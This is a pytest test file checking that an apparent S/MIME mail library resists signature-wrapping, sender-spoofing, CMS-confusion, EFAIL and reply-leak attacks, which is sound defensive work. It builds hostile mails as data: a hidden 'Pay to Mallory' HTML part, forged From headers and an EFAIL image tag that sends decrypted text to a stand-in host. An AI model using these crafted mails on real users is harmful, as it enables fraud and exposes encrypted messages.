"""Mallory's wraps: "Johnny, you are fired" (M1-M4, I1-I3, C1-C3), EFAIL, reply attacks.

Every mail is built here by its defect; the positive control is the same signature put right.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest

from crypto_agent.cms import der, oids, signed
from crypto_agent.cms.content_info import content_info
from tests.operations.world import NOW_MS, TEXT, World, head

WORDS = "The pier is closed.\n"
DATE = "Mon, 01 Jun 2026 12:00:00 +0000"


def codes(result: dict[str, Any]) -> list[str]:
    return [notice["code"] for notice in result["notices"]]


def texts(result: dict[str, Any]) -> list[str]:
    return [body["text"] for body in result["bodies"]]


def mixed(*parts: bytes, kind: bytes = b"mixed", boundary: bytes = b"mix") -> bytes:
    return (
        b"Content-Type: multipart/%s; boundary=%s\r\n\r\n" % (kind, boundary)
        + b"".join(b"--%s\r\n%s\r\n" % (boundary, part) for part in parts)
        + b"--%s--\r\n" % boundary
    )


@pytest.fixture(scope="module")
def outer(world: World) -> bytes:
    return head(from_=world.bob.header, to=world.alice.header, subject="s", date=DATE)


EVIL = b"Content-Type: text/html\r\n\r\n<p>Pay to Mallory.</p><style>*{display:none}</style>\r\n"


def attached(part: bytes) -> bytes:
    return b"Content-Disposition: attachment; filename=a.eml\r\n" + part


@pytest.mark.parametrize(
    "wrap",
    [
        lambda inner: mixed(EVIL, inner),
        lambda inner: mixed(inner, EVIL),
        lambda inner: mixed(EVIL, mixed(inner, boundary=b"in")),
        lambda inner: mixed(EVIL, b"Content-ID: <x>\r\n" + inner, kind=b"related"),
        lambda inner: mixed(EVIL, attached(b"Content-Type: message/rfc822\r\n\r\n" + inner)),
        lambda inner: mixed(EVIL, inner, kind=b"alternative"),
        lambda inner: b"Content-Type: message/rfc822\r\n\r\n" + inner,
        lambda inner: mixed(EVIL, inner, kind=b"signed"),
    ],
    ids="M1-before M1-after M2-deep M3-related M4-attached alternative rfc822 fake".split(),
)
@pytest.mark.parametrize("opaque", [False, True], ids=["detached", "opaque"])
def test_a_signed_part_inside_an_unsigned_mail_never_lifts_it(
    world: World, outer: bytes, wrap: Any, opaque: bool
) -> None:
    inner = world.bob.sign(TEXT, opaque=opaque)
    result = world.open(outer + wrap(inner), by=world.alice)
    assert result["verdict"]["state"] == "unsigned"
    assert result["protection"] == "none"
    assert all(body["protection"] != "signed-only" or not body["root"] for body in result["bodies"])
    if result["verdict"]["signer"] is not None:
        assert result["verdict"]["facts"]["root"]["code"] == "root.partial"
    assert world.open(outer + inner)["verdict"]["state"] == "verified"


def test_a_list_footer_leaves_the_letter_readable_and_quotable(world: World, outer: bytes) -> None:
    footer = b"Content-Type: text/plain\r\n\r\nfriends mailing list\r\n"
    result = world.open(outer + mixed(world.bob.sign(TEXT), footer))
    assert texts(result) == [WORDS, "friends mailing list\n"]
    assert [body["protection"] for body in result["bodies"]] == ["signed-only", "unprotected"]
    assert codes(result) == ["signature.partial"]
    assert result["quote"]["text"] == WORDS
    layer = result["verdict"]["layers"][0]
    assert (layer["kind"], layer["root"], layer["state"]) == ("signed", False, "unsigned")


# --------------------------------------------------------------------------- identity


@pytest.mark.parametrize(
    "sender",
    [
        b"From: Bob Builder <mallory@evil.test>\r\n",
        b'From: "bob@example.test" <mallory@evil.test>\r\n',
        b"From: bob@example.test <mallory@evil.test>\r\n",
        b"From: mallory@evil.test\r\nSender: bob@example.test\r\n",
        b"From: bob@example.test\r\nFrom: mallory@evil.test\r\n",
        b"From: mallory@evil.test\r\nFrom: bob@example.test\r\n",
        b"From: bob@example.test, mallory@evil.test\r\n",
        b"From: <bob@example.test><mallory@evil.test>\r\n",
        b'From: "X" <bob@example.test>:<mallory@evil.test>\r\n',
        b"From: bob@example.test\x00@evil.test\r\n",
        b"From:\r\n",
        b"",
        b"From: =?utf-8?q?bob=40example.test?=\r\n",
        b"Sender: bob@example.test\r\n",
    ],
)
def test_a_signature_counts_only_for_the_one_clear_from(world: World, sender: bytes) -> None:
    result = world.open(sender + b"Subject: s\r\n" + world.bob.sign(TEXT))
    assert result["verdict"]["state"] == "failed"
    assert result["verdict"]["facts"]["address"]["result"] == "failed"
    control = world.open(b"From: Whoever <BOB@example.TEST>\r\n" + world.bob.sign(TEXT))
    assert control["verdict"]["state"] == "verified"


# --------------------------------------------------------------------------- CMS confusion


def test_a_detached_signature_with_a_content_of_its_own_is_not_valid(
    world: World, outer: bytes
) -> None:
    key = world.bob.keyring.signing_key()
    both = signed.finish(signed.sign(TEXT, key, detached=False, signing_time=NOW_MS), None)
    part = (
        b"Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(both)
    )
    raw = outer + mixed(EVIL, part, kind=b"signed; protocol=application/pkcs7-signature")
    result = world.open(raw)
    assert result["verdict"]["state"] == "failed"
    assert result["verdict"]["facts"]["digest"]["code"] == "digest.two_contents"


def test_signed_data_without_signers_is_not_signed(world: World, outer: bytes) -> None:
    content = der.sequence(der.oid(oids.DATA), der.explicit(0, der.octet_string(TEXT)))
    data = der.sequence(der.integer(1), der.set_of([]), content, der.set_of([]))
    raw = (
        outer + b"Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(content_info(oids.SIGNED_DATA, [data]))
    )
    result = world.open(raw)
    assert result["verdict"]["state"] == "unsigned"
    assert texts(result) == [WORDS]
    assert result["bodies"][0]["protection"] == "unprotected"


# --------------------------------------------------------------------------- EFAIL, replies


def test_a_ciphertext_between_html_parts_is_never_joined_with_them(
    world: World, outer: bytes
) -> None:
    stolen = world.encrypt(TEXT, world.alice)
    stolen = stolen.replace(b"Content-Disposition: attachment", b"Content-Disposition: inline")
    before = b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n'
    after = b'Content-Type: text/html\r\n\r\n">\r\n'
    result = world.open(outer + mixed(before, stolen, after), by=world.alice)
    opened = [body for body in result["bodies"] if WORDS in body["text"]]
    assert [body["text"] for body in opened] == [WORDS]
    assert opened[0]["protection"] == "encrypted-only"
    assert not opened[0]["root"]
    assert not opened[0]["remote_allowed"]
    assert "decrypt.mixed" in codes(result)
    assert result["quote"] == {"text": "", "html": None}
    assert result["protection"] == "none"


@pytest.mark.parametrize(
    "wrap",
    [
        lambda stolen: mixed(EVIL, attached(b"Content-Type: message/rfc822\r\n\r\n" + stolen)),
        lambda stolen: mixed(EVIL, stolen, kind=b"alternative"),
        lambda stolen: mixed(EVIL, stolen, kind=b"related"),
        lambda stolen: mixed(EVIL, stolen, kind=b"report"),
        lambda stolen: mixed(EVIL, stolen),  # openssl writes Content-Disposition: attachment
        lambda stolen: mixed(
            EVIL, mixed(mixed(stolen, boundary=b"a"), kind=b"digest", boundary=b"b")
        ),
    ],
    ids="rfc822 alternative related report attachment digest".split(),
)
def test_a_smuggled_ciphertext_is_not_opened_in_place(
    world: World, outer: bytes, wrap: Any
) -> None:
    stolen = world.encrypt(TEXT, world.alice, cipher="aes-256-gcm")
    result = world.open(outer + wrap(stolen), by=world.alice)
    assert all(WORDS not in text for text in texts(result))
    assert WORDS.strip() not in str(result["quote"])
    assert result["uses"] == []
    assert result["attachments"]
    assert WORDS in texts(world.open(outer + stolen, by=world.alice))


def test_a_ciphertext_inside_a_signed_mail_is_not_quoted(world: World) -> None:
    stolen = world.encrypt(TEXT, world.alice).replace(b": attachment", b": inline")
    question = b"Content-Type: text/plain\r\n\r\nPlease answer below.\r\n"
    raw = head(from_=world.mallory.header, subject="s") + world.mallory.sign(
        mixed(question, stolen)
    )
    result = world.open(raw, by=world.alice)
    assert result["verdict"]["state"] == "verified"  # Mallory did sign: both parts, as ciphertext
    assert "decrypt.mixed" in codes(result)
    assert result["quote"] == {"text": "", "html": None}
    inside = next(body for body in result["bodies"] if body["text"] == WORDS)
    assert (inside["root"], inside["protection"]) == (False, "encrypted-only")


# --------------------------------------------------------------------------- protected headers

PROTECTED = (
    b"From: Bob Builder <bob@example.test>\r\nTo: Alice <alice@example.test>\r\n"
    b"Subject: Pier 4\r\nDate: Mon, 01 Jun 2026 12:00:00 +0000\r\n"
    b"HP-Outer: Subject: [...]\r\nHP-Outer: From: Bob Builder <bob@example.test>\r\n"
    b'Content-Type: text/plain; hp="cipher"; hp-legacy-display=1\r\n\r\n'
    b"Subject: Pier 4\r\n\r\nThe pier is closed.\r\n"
)
OUTSIDE = b"From: Bob Builder <bob@example.test>\r\nSubject: [...]\r\n"


def test_protected_headers_win_and_the_legacy_display_is_gone(world: World) -> None:
    raw = OUTSIDE + world.encrypt(world.bob.sign(PROTECTED), world.alice)
    result = world.open(raw, by=world.alice)
    assert result["headers"]["subject"] == "Pier 4"
    assert result["outer"] == {"subject": "[...]", "from": [world.bob.mailbox]}
    assert result["headers"]["protected"]["subject"] == "signed-and-encrypted"
    assert result["headers"]["protected"]["from"] == "signed-only"
    assert texts(result) == [WORDS]
    assert result["quote"]["text"] == WORDS
    assert not result["headers"]["from_mismatch"]


def test_hp_cipher_on_a_mail_that_is_only_signed_promises_no_secrecy(world: World) -> None:
    result = world.open(OUTSIDE + world.bob.sign(PROTECTED))
    assert result["protection"] == "signed"
    assert result["headers"]["subject"] == "Pier 4"
    assert set(result["headers"]["protected"].values()) == {"signed-only"}
    # Without encryption there is no legacy display: nothing is taken away from the text.
    assert texts(result) == ["Subject: Pier 4\n\n" + WORDS]


def test_hp_on_a_plain_mail_protects_nothing(world: World) -> None:
    result = world.open(PROTECTED)
    assert set(result["headers"]["protected"].values()) == {"unprotected"}
    assert texts(result) == ["Subject: Pier 4\n\n" + WORDS]


def test_hp_outer_outside_of_the_payload_root_is_ignored(world: World) -> None:
    raw = b"HP-Outer: To: Alice <alice@example.test>\r\n" + OUTSIDE
    result = world.open(raw + world.encrypt(world.bob.sign(PROTECTED), world.alice), by=world.alice)
    assert result["headers"]["protected"]["to"] == "signed-and-encrypted"


def test_another_from_outside_is_told_and_shown_unless_the_signature_is_bound_to_the_inner(
    world: World,
) -> None:
    outside = OUTSIDE.replace(b"bob@example.test", b"mallory@evil.test")
    unsigned = world.open(outside + world.encrypt(PROTECTED, world.alice), by=world.alice)
    assert unsigned["headers"]["from_mismatch"]
    assert unsigned["headers"]["from"][0]["address"] == "mallory@evil.test"
    assert unsigned["headers"]["reply_to"][0]["address"] == "bob@example.test"
    bound = world.open(
        outside + world.encrypt(world.bob.sign(PROTECTED), world.alice), by=world.alice
    )
    assert bound["verdict"]["state"] == "verified"
    assert bound["headers"]["from"][0]["address"] == "bob@example.test"


def test_mallory_cannot_sign_with_bob_in_her_protected_from(world: World) -> None:
    result = world.open(OUTSIDE + world.mallory.sign(PROTECTED))
    assert result["verdict"]["state"] == "failed"
    assert result["verdict"]["facts"]["address"]["code"] == "address.mismatch"


def test_a_protected_header_cannot_carry_a_line_break(world: World) -> None:
    inner = PROTECTED.replace(b"Subject: Pier 4\r\nDate", b"Subject: =?utf-8?q?a=0D=0Ab?=\r\nDate")
    result = world.open(OUTSIDE + world.encrypt(inner, world.alice), by=world.alice)
    assert result["headers"]["subject"] == "a  b"


def test_the_older_header_part_is_not_shown_as_text(world: World, outer: bytes) -> None:
    legacy = b'Content-Type: text/rfc822-headers; protected-headers="v1"\r\n\r\nSubject: Pier 4\r\n'
    inner = b"Subject: Pier 4\r\n" + mixed(legacy, TEXT).replace(
        b"boundary=mix", b'boundary=mix; protected-headers="v1"'
    )
    result = world.open(outer + world.encrypt(inner, world.alice), by=world.alice)
    assert texts(result) == [WORDS]
    assert result["attachments"] == []
    assert result["headers"]["subject"] == "Pier 4"
